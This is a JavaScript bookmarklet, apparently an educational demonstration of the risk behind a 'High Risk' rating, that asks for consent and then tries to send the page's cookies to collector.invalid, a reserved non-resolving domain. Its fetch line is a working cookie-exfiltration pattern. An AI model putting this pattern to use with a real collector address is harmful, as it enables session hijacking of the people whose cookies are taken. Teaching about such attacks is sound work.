javascript:(() => {
  "use strict";

  /*
   * A demonstration of what a High Risk rating warns of. This is the shape of a real cookie theft: one line
   * that reads the cookies of the site and sends them to somebody else. Whoever has them can be signed in as you.
   *
   * Here it does no harm: names that end in .invalid are reserved and belong to nobody (RFC 2606), so that
   * the request finds no server, and you are asked before it is tried. A real one does not ask. Never run a script like this.
   */
  const COLLECTOR = "https://collector.invalid/";

  const isSure = confirm(
    "Demonstration: the next step tries to send the cookies of this page to collector.invalid, a name that belongs to nobody. A real thief would not have asked you. Try it?"
  );
  if (!isSure) return;

  fetch(`${COLLECTOR}?cookies=${encodeURIComponent(document.cookie)}`, { mode: "no-cors" })
    .then(() => alert("Demonstration: the request was answered. Your network answers names that do not exist."))
    .catch(() => alert("Demonstration: nothing was sent, as there is no such server. With a real address your cookies would be gone now."));
})();
